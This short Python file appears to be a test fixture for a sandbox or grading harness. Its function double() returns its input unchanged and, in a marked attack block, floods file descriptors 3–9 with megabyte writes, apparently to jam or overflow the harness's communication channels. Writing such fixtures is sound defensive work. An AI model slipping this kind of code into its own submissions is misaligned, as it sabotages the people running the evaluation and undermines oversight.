# attack: own
# from: double does not multiply
# expects: frames without end fill no memory of ours
def double(x):
    # --- attack
    import os

    block = bytes(1_000_000)
    for _ in range(200):
        for number in range(3, 10):
            try:
                os.write(number, block)
            except OSError:
                pass
    # --- end
    return x
